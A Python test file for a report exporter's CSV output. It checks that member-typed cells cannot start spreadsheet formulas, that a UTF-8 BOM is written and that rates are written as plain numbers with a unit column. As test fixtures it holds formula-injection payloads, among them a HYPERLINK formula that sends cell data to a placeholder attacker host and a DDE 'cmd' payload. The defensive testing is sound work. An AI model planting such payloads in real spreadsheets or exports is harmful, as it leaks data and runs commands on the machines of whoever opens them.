"""The report's CSVs open safely and correctly in a spreadsheet: no cell a member typed can start a
formula (OWASP's list, checked for any string with Hypothesis), what was typed reads back unchanged but
for the neutralising apostrophe, a UTF-8 BOM, and numbers as numbers with their unit beside them."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.spreadsheet import BOM, FORMULA_STARTS, NEUTRALISER, csv_text, neutralise
from reporting.board_report.tables import Column, Measure, Table

OWASP = "=+-@\t\r"


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


@given(st.text())
def test_no_text_cell_can_start_a_formula_and_it_reads_back_as_typed(typed):
    table = Table("t", "T", [Column("Category"), Column("Number waiting", "int")], [[typed, 3]])
    header, row = _rows(csv_text(table))
    cell = row[0]
    assert header == ["Category", "Number waiting"]
    assert not (cell and cell[0] in OWASP)  # never a formula start (the apostrophe is not one)
    if typed[:1] in FORMULA_STARTS:
        assert cell[1:] == typed  # the neutralising prefix is the only change
    else:
        assert cell == typed
    assert row[1] == "3"


@given(st.text(alphabet=st.sampled_from([*OWASP, "a", "1", '"', ",", "\n", "|"]), min_size=1))
def test_formula_starts_are_always_neutralised(typed):
    assert neutralise(typed)[0] not in OWASP
    assert (
        neutralise(typed).removeprefix(NEUTRALISER) == typed
        if typed[0] in OWASP
        else neutralise(typed) == typed
    )


def test_the_classic_payloads_are_neutralised_and_numbers_are_not():
    payloads = [
        '=HYPERLINK("https://evil.example","x")',
        "@SUM(A1:A2)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1",
    ]
    table = Table(
        "waiting",
        "Waiting",
        [Column("Service category"), Column("Number waiting", "int"), Column("Open rate", "percent")],
        [[payload, -4, 0.30216] for payload in payloads],
    )
    text = csv_text(table)
    rows = _rows(text)[1:]
    assert [row[0] for row in rows] == [NEUTRALISER + payload for payload in payloads]
    assert all(row[1] == "-4" and row[2] == "0.3022" for row in rows)  # real numbers stay numbers
    assert '"=HYPERLINK' not in text and "\n=" not in text and ",=" not in text


def test_a_bom_so_excel_reads_utf8():
    text = csv_text(Table("k", "K", [Column("Figure"), Column("Value", "int")], [["…of which sensitive", 1]]))
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert _rows(text)[1] == ["…of which sensitive", "1"]


def test_mixed_figures_get_a_number_column_and_a_unit_column():
    table = Table(
        "key_figures",
        "Key figures",
        [Column("Figure"), Column("Value")],
        [
            ["Member organisations", 16],
            ["Open rate", Measure(0.3021, "percent", "above the benchmark")],
            ["Open rate including machine opens", Measure(None, "percent", "no bulletin reported")],
        ],
    )
    rows = list(csv.DictReader(io.StringIO(csv_text(table).removeprefix(BOM))))
    assert rows[0] == {"Figure": "Member organisations", "Value": "16", "Unit": "count", "Note": ""}
    assert rows[1] == {"Figure": "Open rate", "Value": "30.21", "Unit": "%", "Note": "above the benchmark"}
    assert float(rows[1]["Value"]) == 30.21  # a number, not "30.2%"
    assert rows[2]["Value"] == "" and rows[2]["Note"] == "no bulletin reported"


def test_the_board_reports_csvs_neutralise_what_members_typed(db, tmp_path):
    """Issue 12: a service category `=HYPERLINK(…)` went verbatim into the report's CSVs."""
    from datetime import UTC, date, datetime

    from bot.report import write_report
    from intake.returns import record_return
    from models.network import OrganisationStatus
    from reporting.board_report.report import build_board_report, parse_quarter
    from reporting.periods import LONDON
    from tests import factories

    payload = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    org = factories.organisation(db, "Formula Youth Club", members=("U0FORMULA1",))
    org.status = OrganisationStatus.APPROVED
    service = factories.service(db, org, "@SUM(A1:A9)", category=payload)
    for row in (org, service):
        row.created_at = datetime(2026, 1, 10, tzinfo=UTC)
    db.commit()
    record_return(
        db,
        slack_user_id="U0FORMULA1",
        service=service.id,
        period="2026-08",
        number_waiting=14,
        new_referrals=4,
        median_wait_weeks=8,
        longest_wait_weeks=20,
        capacity_status="no_capacity",
        today=date(2026, 9, 5),
    )
    db.commit()
    report = build_board_report(db, parse_quarter("2026Q3"), now=datetime(2026, 10, 2, tzinfo=UTC))
    paths = write_report(report, tmp_path, tz=LONDON, pdf=False)
    cells = []
    for path in paths:
        if path.suffix == ".csv":
            data = path.read_bytes()
            assert data.startswith(b"\xef\xbb\xbf"), path.name
            cells += [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert NEUTRALISER + payload in cells  # the category is there, neutralised
    assert not [cell for cell in cells if cell and cell[0] in OWASP and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_key_figures_csv_gives_rates_as_numbers_with_their_unit(db, tmp_path):
    """Issue 13: the Value column mixed numbers with text such as "30.2%"."""
    from datetime import UTC, datetime

    from bot.report import write_report
    from reporting.board_report.report import build_board_report, parse_quarter
    from reporting.periods import LONDON
    from tests.test_dashboard_pages import _bulletin

    _bulletin(db, "2026-08", delivered=232, opens=70, proxy=None, clicks=[])
    db.commit()
    report = build_board_report(db, parse_quarter("2026Q3"), now=datetime(2026, 10, 2, tzinfo=UTC))
    write_report(report, tmp_path, tz=LONDON, pdf=False)
    text = (tmp_path / "key_figures.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        if row["Value"]:
            float(row["Value"])  # every value is a number
        assert row["Unit"] in {"count", "%", ""}
    rate = next(row for row in rows if row["Figure"].startswith("Bulletin open rate including"))
    assert (float(rate["Value"]), rate["Unit"]) == (pytest.approx(100 * 70 / 232, abs=0.01), "%")
    html = (tmp_path / f"board-report-{report.period.label.replace(' ', '')}.html").read_text()
    assert "30.2%" in html  # the page still reads as before
